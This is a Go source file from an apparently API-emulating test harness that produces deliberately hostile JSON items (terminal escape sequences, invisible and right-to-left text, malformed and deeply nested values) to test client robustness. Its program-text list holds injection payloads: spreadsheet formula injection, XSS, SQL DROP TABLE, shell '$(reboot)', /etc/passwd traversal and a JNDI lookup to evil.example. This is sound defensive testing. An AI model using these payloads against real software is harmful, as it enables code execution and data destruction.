package emulator

import (
	"slices"
	"strconv"
	"strings"
)

// hostileWriter writes items that break careless programs. It also writes ordinary products between these items, so
// that damage is easy to see. Every item is valid for encoding/json.
type hostileWriter struct {
	items    []string // JSON of each item; "" means an ordinary product
	products productWriter
}

// newHostileWriter returns a writer of two kinds of items: objects whose text contains control sequences for terminals,
// and objects that few programs expect. The items conform to the published schema: every item is an object, every
// number fits a float64, every text is Unicode, and nesting is not too deep for the official clients.
func newHostileWriter(products productWriter) hostileWriter {
	items := []string{"", ""}
	texts := slices.Concat(terminalTexts(), layoutTexts(), programTexts())
	for i, text := range texts {
		if i%2 == 0 {
			items = append(items, hostileProduct(text), hostileNested(text))
		} else {
			items = append(items, hostileProduct(text), hostileKey(text))
		}
		if i%8 == 7 {
			items = append(items, "")
		}
	}
	return hostileWriter{items: withProducts(items, unusualObjects()), products: products}
}

// newBrokenWriter returns a writer of items that do not conform to the published schema.
func newBrokenWriter(products productWriter) hostileWriter {
	return hostileWriter{items: withProducts([]string{"", ""}, brokenItems()), products: products}
}

// withProducts appends newItems to items. After every sixth item it appends "", which stands for an ordinary product.
func withProducts(items, newItems []string) []string {
	for i, newItem := range newItems {
		items = append(items, newItem)
		if i%6 == 5 {
			items = append(items, "")
		}
	}
	return items
}

// hostileProduct returns a product, as JSON, whose name and brand are the given text.
func hostileProduct(text string) string {
	o := newObject(nil)
	o.text("name", text)
	o.text("price", "$13.37")
	o.text("brand", text)
	o.text("url", "https://shop.example.com/p/"+text)
	return string(o.end())
}

// hostileNested returns an item, as JSON, with the given text in a nested value.
func hostileNested(text string) string {
	o := newObject(nil)
	o.text("name", "nested")
	o.texts("tags", text, text)
	o.raw("dims", `{"w":`+string(quote(nil, text))+`,"h":null}`)
	return string(o.end())
}

// hostileKey returns an item, as JSON, that has the given text as a key.
func hostileKey(text string) string {
	return `{"name":"its key",` + string(quote(nil, text)) + `:1}`
}

func (h hostileWriter) count() int { return len(h.items) }

func (h hostileWriter) item(dst []byte, dice *dice, at position) []byte {
	item := h.items[at.index]
	if item == "" {
		return h.products.catalogueItem(dst, dice, at)
	}
	return append(dst, item...)
}

// mode returns the mode of the run. It contains a control sequence, because the API allows any text as a mode.
func (h hostileWriter) mode() string { return "replay\x1b]0;owned by the mode\x07" }

func (h hostileWriter) warnings() []string {
	return []string{
		"page 1: \x1b[2J\x1b[Hthe screen was cleared by a warning",
		"page 2: \x1b]0;owned\x07\x1b]52;c;ZXZpbA==\x07title and clipboard",
		"page 3: \u202egninraw desrever\u202c \u009b31mC1\u009c \x00\x7f",
		"page 4: a warning\nof three lines\r\nand " + strings.Repeat("very ", 400) + "long",
	}
}

// terminalTexts returns texts with escape sequences and control characters that would control a terminal.
func terminalTexts() []string {
	return []string{
		"\x1b[31mred\x1b[0m",
		"\x1b[2J\x1b[3J\x1b[Hcleared",
		"\x1b]0;owned title\x07",
		"\x1b]8;;https://evil.example/\x1b\\click here\x1b]8;;\x1b\\",
		"\x1b]52;c;ZXZpbA==\x07 clipboard",
		"\x1bP+q544e\x1b\\ DCS",
		"\x1bPq#0;2;0;0;0#0~~@@vv\x1b\\ sixel",
		"\x1b_Gf=24,s=1,v=1;AAAA\x1b\\ APC",
		"\x1b^PM\x1b\\ \x1bXSOS\x1b\\",
		"\x1b[?1049l\x1b[?25l\x1b[?1000h\x1b[?2004h modes",
		"\x1b[c\x1b[6n\x1b[>q questions",
		"\x1b[>31u\x1b[=1;1u kitty keys",
		"\x1bc reset",
		"\x1b(0lqqk\x1b)0\x0e charset",
		"\x1b[8;1;1t\x1b[3;0;0t window",
		"\x1b[1;1H\x1b[1Mtop line gone",
		"\x1b",
		"\x1b[",
		"\x1b]0;never ended",
		"\u009b31mC1 CSI\u009b0m",
		"\u009d0;owned by C1\u009c",
		"\u0090q C1 DCS\u009c \u0085 NEL",
		"bell\a back\b\b\bspace return\rgone",
		"NUL \x00 SOH \x01 SUB \x1a DEL \x7f",
		"tab\there\ttab\t",
		"line one\nline two\n\n\nline five",
		"CRLF\r\nvertical\vform\ffeed",
		"\u2028line and\u2029paragraph separators",
	}
}

// layoutTexts returns texts that are hard to lay out: right-to-left, zero-width, very wide, very tall or invisible.
func layoutTexts() []string {
	return []string{
		"\u202egpj.exe",
		"\u2066isolated\u2069 \u2067right to left\u2069 \u2068first strong",
		"mixed עברית and العربية 123 text",
		"zero\u200bwidth\u200c \u200djoiners\u2060 \ufeffBOM",
		"soft\u00adhyphen, Mongolian\u180evowel, invisible\u2062times",
		"tags \U000e0041\U000e0042\U000e007f",
		"variation \ufe00\ufe0f\ufe0f\ufe0f\U000e0100",
		"blank: \u2800\u3164\u115f\u1160\uffa0",
		"spaces: \u00a0\u2007\u202f\u3000\u2003.",
		zalgo("he comes", 24),
		"\u0301\u0302 starts with combining marks",
		"日本電機株式会社の全角文字の商品名は表の幅を壊す",
		"ﾊﾝｶｸ ｶﾀｶﾅ ①②③ ±×÷ ambiguous",
		"👨‍👩‍👧‍👦 👩🏽‍🚀 🏳️‍🌈 🇨🇭🇯🇵 1️⃣ ❤️ ☺︎",
		"क्षत्रिय นี่คือภาษาไทย தமிழ் བོད་སྐད",
		"﷽ ꧅ 𒐫 𒈙 very wide",
		"private use \ue0b0\uf8ff\U000f0001, no characters \uffff\ufffe\U0010ffff, replaced \ufffd",
		strings.Repeat("a", 5_000),
		strings.Repeat("長", 2_000),
		strings.Repeat("no end of words ", 500),
	}
}

// programTexts returns texts that spreadsheets, browsers, databases, shells and type detection may misinterpret.
func programTexts() []string {
	return []string{
		"=cmd|' /C calc'!A0",
		"@SUM(1+1)*cmd|' /C calc'!A0",
		"+1+1", "-2+3", "=HYPERLINK(\"https://evil.example\",\"click\")",
		"<script>alert(1)</script>",
		"<img src=x onerror=alert(1)>&lt;b&gt;&#27;[31m",
		"'; DROP TABLE items;--",
		"$(reboot) `reboot` ; reboot | reboot & reboot",
		"../../../../etc/passwd",
		"javascript:alert(1)",
		"file:///etc/passwd",
		"https://user:password@evil.example/\x1b[0m?a=1 b",
		"%s%n%x %!v(MISSING) {{.Exec}} ${jndi:ldap://evil.example}",
		"quotes \" ' ` , ; \\ and \\u001b[31m in plain letters",
		"a,b;c\td\n\"e\"",
		"", " ", "null", "true", "NaN", "1e5", "0x10", "007", "1,5", "−5",
	}
}

// zalgo adds many combining marks to each letter.
func zalgo(text string, marks int) string {
	var b strings.Builder
	for _, r := range text {
		b.WriteRune(r)
		for i := range marks {
			b.WriteRune(rune(0x300 + (int(r)+7*i)%0x70))
		}
	}
	return b.String()
}

// unusualObjects returns objects that few programs expect.
func unusualObjects() []string {
	return []string{
		`{}`, `{"five":5}`,
		// Unusual keys.
		`{"name":"first","name":"second","name":null,"price":"$1.00","price":"$2.00"}`,
		`{"name":"the same key, escaped","\u006eame":"second"}`,
		`{"":"no key","name":"empty key","":2}`,
		`{"name":"dots","dims.w":1,"dims":{"w":2,"h":{"w":3}}}`,
		`{"name":"objects of JavaScript","__proto__":{"x":1},"constructor":null,"toString":"x"}`,
		`{"name":"case","NAME":"upper","Name":"title"," name":"space","name ":"space"}`,
		`{"name":"long key","` + strings.Repeat("key", 400) + `":1}`,
		// Unusual numbers. A float64 can hold all of them, but some lose digits.
		`{"name":"digits","price":1234567890123456789012345678901234567890,"rating":0.1000000000000000055511151231257827}`,
		`{"name":"large and small","price":1.7976931348623157e308,"rating":5e-324}`,
		`{"name":"signs and exponents","price":-0.0,"rating":-1E+3}`,
		`{"name":"just past 53 bits","price":9007199254740993,"rating":18446744073709551616}`,
		`{"name":"long number","price":0.` + strings.Repeat("9", 900) + `}`,
		// White space and escapes between and within tokens.
		"{ \"name\" :\t\"spaced\" ,\r\n  \"price\"\n:\n\"$3.00\" }",
		`{"name":"\u0065\u0073\u0063\u0061\u0070\u0065\u0064 \/ \"\\\b\f\n\r\t","price":"\u00244.00"}`,
		`{"name":"surrogates \ud83d\ude00","\ud83d\ude00":"a key of surrogates"}`,
		// Types that change, and values of the wrong type.
		`{"name":["an","array"],"price":{"amount":5,"currency":"USD"},"rating":"four","in_stock":"yes","tags":"none","dims":[1,2]}`,
		`{"name":12,"price":12.5,"rating":true,"in_stock":0,"tags":{},"dims":null}`,
		`{"name":null,"price":null,"brand":null,"rating":null,"in_stock":null,"url":null}`,
		`{"name":"arrays","tags":[1,[2,[3,["four"]]],{"five":5}]}`,
		// Large and deep items.
		wideItem(300),
		deepItem(100, `[`, `]`),
		deepItem(100, `{"d":`, `}`),
		`{"name":"many tags","tags":[` + strings.Repeat(`"tag",`, 1_000) + `"last"]}`,
		`{"name":"empty values","tags":[[],{},"",null,[[]]],"dims":{}}`,
	}
}

// brokenItems returns JSON values that do not conform to the published schema of an item, or that the official clients
// cannot read.
func brokenItems() []string {
	return []string{
		// Values that are not objects.
		`"just a string \u001b[31m"`, `42`, `null`, `true`, `""`, `[]`, `[1,[2,[3,["four"]]],{"five":5}]`, `-0`,
		// Numbers that no float64 can hold.
		`{"name":"too large","price":1e400,"rating":-1E+999}`,
		`{"name":"too small","price":1e-400,"rating":-1e-999}`,
		`{"name":"long number","price":` + strings.Repeat("9", 1_000) + `}`,
		// Strings that cannot be written in UTF-8.
		`{"name":"lone high \ud800","note":"\udfff lone low","pair":"\ud83d\ude00"}`,
		`{"name":"high twice \ud800\ud800\udc00","\ud800":"a lone surrogate as a key"}`,
		// Values that are nested too deeply for some clients.
		deepItem(200, `[`, `]`),
		deepItem(200, `{"d":`, `}`),
		strings.Repeat(`[`, 150) + strings.Repeat(`]`, 150),
	}
}

// wideItem returns an item with many columns that no other item has.
func wideItem(columns int) string {
	o := newObject(nil)
	o.text("name", "wide")
	for i := range columns {
		o.integer("column_"+strconv.Itoa(i+1), i)
	}
	return string(o.end())
}

// deepItem returns an item with a deeply nested value. depth is the number of levels.
func deepItem(depth int, open, shut string) string {
	return `{"name":"deep","dims":` + strings.Repeat(open, depth) + `0` + strings.Repeat(shut, depth) + `}`
}
